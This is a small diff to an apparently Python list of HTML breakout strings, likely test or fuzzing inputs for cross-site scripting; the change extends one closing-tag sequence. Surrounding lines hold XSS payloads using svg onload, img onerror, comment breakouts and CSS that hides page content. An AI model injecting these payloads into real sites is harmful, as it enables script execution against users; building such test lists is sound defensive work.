@@ -28,7 +28,7 @@ GROUPS = {
         f"</title><svg onload={RUN}>",
         "</style><style>*{display:none}</style>",
         "</td></tr></tbody></table><h1>out</h1>",
-        "</bdi></dd></dl></section></aside></div>",
+        "</bdi></dd></dl></section></section></main></aside></div>",
         f"</desc></svg><img src=x onerror={RUN}>",
         "<!--<script>",
         f"--><img src=x onerror={RUN}><!--",
